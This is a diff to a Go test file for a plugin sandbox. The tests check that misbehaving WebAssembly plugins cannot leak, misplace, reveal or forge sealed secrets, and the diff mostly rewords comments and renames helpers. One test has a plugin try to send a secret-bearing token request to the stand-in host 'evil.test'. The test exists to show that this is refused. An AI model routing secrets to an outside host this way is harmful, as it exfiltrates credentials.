@@ -11,10 +11,10 @@ import (
 	"github.com/keywright/keywright/host"
 )
 
-// Plugins that go wrong, or want what they may not have: threats.md "Sandbox" and "Secrets", decisions.md "the plugin
-// fails". What a module does at the border of WebAssembly is tested in package sandbox.
+// Plugins that fail, or that try what they may not do: threats.md "Sandbox" and "Secrets", decisions.md "the plugin
+// fails". Package sandbox tests modules that break the rules of WebAssembly and Extism.
 
-// misused is a connector's configuration for the guests of this file. Its secrets are canaries.
+// misused is the configuration of a connector for the guests of this file. Its secrets are canaries.
 var misused = config{
 	"to_header": "{{ get_secret('s') }}", "to_query": "{{ get_secret('s') }}", "to_token": "{{ get_secret('s') }}",
 	"to_claim": "{{ get_secret('s') }}", "nowhere": "{{ get_secret('s') }}", "key": "{{ get_secret('k') }}",
@@ -36,8 +36,8 @@ func misusing(do func(abi.Env) (string, error)) *guest {
 	return g
 }
 
-// misusedWorld is a world with one plugin, a guest that does this, and the secrets of its configuration. It has none of
-// the built-in plugins, which take their time to compile.
+// misusedWorld returns a world whose only plugin is a guest that runs do, and the secrets of misused. It leaves out the
+// built-in plugins, which take time to compile.
 func misusedWorld(t *testing.T, do func(abi.Env) (string, error), grants ...string) *world {
 	t.Helper()
 	w := newWorld(t, withoutBuiltIns, withGuest(misusing(do), grants...))
@@ -47,7 +47,7 @@ func misusedWorld(t *testing.T, do func(abi.Env) (string, error), grants ...stri
 	return w
 }
 
-// misuse is a case of the tests: what a guest does, and how the request must fail.
+// misuse is a test case: what a guest does, and how the request must fail.
 type misuse struct {
 	name  string
 	do    func(env abi.Env) (string, error)
@@ -64,20 +64,20 @@ func refuseAll(t *testing.T, cases []misuse, grants ...string) {
 			r := get(t.Context())
 			r.Header.Set("X-Caller", "the-caller")
 			w.refuse(connector, r, c.stage, c.words)
-			if w.exchanged() != 0 {
-				t.Errorf("%s was sent to the token endpoint", w.lastExchange().body)
+			if w.login.Count() != 0 {
+				t.Errorf("%s was sent to the token endpoint", w.login.Last().Body)
 			}
 		})
 	}
 }
 
-// gives is a guest that gives a mutation without a look at anything.
-func gives(output string) func(abi.Env) (string, error) {
+// fixedOutput returns a guest that returns a fixed mutation.
+func fixedOutput(output string) func(abi.Env) (string, error) {
 	return func(abi.Env) (string, error) { return output, nil }
 }
 
 func tokenRequest(env abi.Env, url string, form ...abi.Pair) (string, error) {
-	value(env, "url") // what config_get has given is where a token request may go
+	value(env, "url") // allows a token request to this URL
 	env.TokenRequest([]byte(marshal(abi.TokenRequest{URL: url, Form: form})))
 	return header("X-Key", value(env, "to_header")), nil
 }
@@ -99,7 +99,7 @@ func TestSealedValueWhereItDoesNotBelong_threats_15a(t *testing.T) {
 	var cases []misuse
 	for _, field := range []string{"to_query", "to_token", "to_claim", "nowhere", "key", "text", "url"} {
 		cases = append(cases, misuse{field + " into a header", put(field, header), host.StagePlugin, ""})
-		if field == "url" { // literal here, and so no sealed value
+		if field == "url" { // a literal, so its value is not sealed
 			cases[len(cases)-1].stage, cases[len(cases)-1].words = host.StageMutation, "no credential"
 		}
 	}
@@ -155,8 +155,8 @@ func TestSealedValueWhereItDoesNotBelong_threats_15a(t *testing.T) {
 func TestNoCredential_threats_15b(t *testing.T) {
 	stale := ""
 	refuseAll(t, []misuse{
-		{"forgotten", gives(`{}`), host.StageMutation, "no credential"},
-		{"a header without it", gives(header("X-Key", "v")), host.StageMutation, "no credential"},
+		{"forgotten", fixedOutput(`{}`), host.StageMutation, "no credential"},
+		{"a header without it", fixedOutput(header("X-Key", "v")), host.StageMutation, "no credential"},
 		{"encoded, and left", func(env abi.Env) (string, error) {
 			env.Encode(abi.FormatBase64, value(env, "to_header"))
 			return header("X-Key", "v"), nil
@@ -164,7 +164,7 @@ func TestNoCredential_threats_15b(t *testing.T) {
 		{"a reference that is encoded", func(env abi.Env) (string, error) {
 			return header("X-Key", fmt.Sprintf("%x", value(env, "to_header"))), nil
 		}, host.StageMutation, "no credential"},
-		{"a reference of nothing", gives(header("X-Key", abi.SealedPrefix+strings.Repeat("a", abi.SealedLength))), host.StagePlugin, "none of this call"},
+		{"a reference of nothing", fixedOutput(header("X-Key", abi.SealedPrefix+strings.Repeat("a", abi.SealedLength))), host.StagePlugin, "none of this call"},
 		{"a reference that is cut", func(env abi.Env) (string, error) {
 			return header("X-Key", value(env, "to_header")[:20]), nil
 		}, host.StageMutation, "no credential"},
@@ -180,11 +180,11 @@ func TestNoCredential_threats_15b(t *testing.T) {
 		return header("X-Key", "v"), nil
 	})
 	w.refuse(w.connect("custom", misused), get(t.Context()), host.StageMutation, "no credential")
-	if w.exchanged() != 1 {
+	if w.login.Count() != 1 {
 		t.Error("what was put to use was none of the token endpoint")
 	}
 	w = misusedWorld(t, func(env abi.Env) (string, error) {
-		env.TimeNow() // so that the next call is run as well
+		env.TimeNow() // so that the mutation is not used again
 		if stale == "" {
 			stale = value(env, "to_header")
 		}
@@ -220,13 +220,13 @@ func TestInputHasNoCredentials(t *testing.T) {
 	}
 	r.Header = http.Header{
 		"Authorization": {"a-caller"}, "cookie": {"a-cookie"}, "Proxy-Authorization": {"a-proxy"}, "X-Plain": {"p"},
-		"X-One": {secret}, "X-Two": {"x" + secret, secret}, // as the platform may have put it there
+		"X-One": {secret}, "X-Two": {"x" + secret, secret}, // the request may contain the secret already
 	}
 	for i := range 40 {
 		r.Header.Add(fmt.Sprint("X-Many-", i), secret)
 	}
 	w.send(w.connect("custom", misused), r)
-	w.out("the guest's input", seen)
+	w.Out("the guest's input", seen)
 	for _, bad := range []string{"a-caller", "a-cookie", "a-proxy", "pw@"} {
 		if strings.Contains(seen, bad) {
 			t.Errorf("the guest sees %q", bad)
@@ -253,7 +253,7 @@ func TestSecretsThatAreNotTheConnectors_threats_16(t *testing.T) {
 	}
 	w.refuse(w.connect("custom", misused), get(t.Context()), host.StagePlugin, `"secret" in uses`)
 	w = misusedWorld(t, named)
-	if got := w.get(w.connect("custom", misused)).header.Get("X-Key"); got != w.secrets["s"] {
+	if got := w.get(w.connect("custom", misused)).Header.Get("X-Key"); got != w.secrets["s"] {
 		t.Error("a secret that the configuration names is not given")
 	}
 }
@@ -273,7 +273,7 @@ func TestSecretsSentElsewhere_threats_18(t *testing.T) {
 	}, host.StagePlugin, "only go to a URL"}))
 	w := misusedWorld(t, func(env abi.Env) (string, error) { return tokenRequest(env, value(env, "text")) })
 	w.refuse(w.connect("custom", with(misused, "text", "https://evil.test/")), get(t.Context()), host.StagePlugin, "only go to a URL")
-	if w.exchanged() != 0 || w.received() != 0 {
+	if w.login.Count() != 0 || w.api.Count() != 0 {
 		t.Error("a field that is text for another purpose is taken for a token URL")
 	}
 }
@@ -304,18 +304,18 @@ func TestGrants_threats_11(t *testing.T) {
 		env.Log(abi.LevelInfo, "found "+string(env.Reveal(value(env, "nowhere"))))
 		return header("X-Key", fmt.Sprintf("%x", env.Sign("key", "data"))), nil
 	}, abi.GrantReveal, abi.GrantSignRaw)
-	if got := w.get(w.connect("custom", misused)).header.Get("X-Key"); len(got) != 64 {
+	if got := w.get(w.connect("custom", misused)).Header.Get("X-Key"); len(got) != 64 {
 		t.Errorf("the signature is %q", got)
 	}
 	if w.logged("found <sealed>") != 1 {
-		t.Errorf("what was revealed is not scrubbed from the log: %s", w.log())
+		t.Errorf("what was revealed is not scrubbed from the log: %s", w.log.String())
 	}
 	refuseAll(t, []misuse{{"an error with what was revealed", func(env abi.Env) (string, error) {
 		return "", fmt.Errorf("found %s", env.Reveal(value(env, "nowhere")))
 	}, host.StagePlugin, "found <sealed>"}}, abi.GrantReveal)
 }
 
-// The default of a sealed field comes as what is configured would: sealed, and fit for the field's sinks only.
+// The default of a sealed field is sealed like a configured value, and may go only to the field's sinks.
 func TestDefaultOfASealedField(t *testing.T) {
 	field := sealedField("to_header", abi.SinkHeader)
 	field.Default = "anonymous-access"
@@ -325,7 +325,7 @@ func TestDefaultOfASealedField(t *testing.T) {
 		return header("X-Key", seen), nil
 	}}
 	w := newWorld(t, withoutBuiltIns, withGuest(g))
-	if got := w.get(w.connect("custom", nil)).header.Get("X-Key"); got != field.Default || !strings.HasPrefix(seen, abi.SealedPrefix) {
+	if got := w.get(w.connect("custom", nil)).Header.Get("X-Key"); got != field.Default || !strings.HasPrefix(seen, abi.SealedPrefix) {
 		t.Errorf("the plugin sees %q, and the API %q", seen, got)
 	}
 }
